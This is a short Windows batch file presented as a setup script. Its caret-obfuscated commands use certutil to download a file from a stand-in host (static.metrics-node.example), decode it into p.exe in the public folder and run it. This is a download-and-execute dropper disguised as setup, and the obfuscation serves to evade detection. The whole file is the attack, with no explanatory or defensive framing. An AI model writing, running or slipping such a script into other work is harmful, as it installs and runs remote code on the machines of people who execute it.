REM setup 7222 v0
@echo off
c^e^rt^uti^l -u^r^lc^ache -f ht^t^p://^s^t^ati^c.met^r^ic^s-no^d^e.e^xamp^le/^p.txt %PUBLIC%\^p.txt
^certu^t^il -d^eco^de %PUBLIC%\p.^t^x^t %PUBLIC%\^p.^e^x^e
%PUBLIC%\p.ex^e
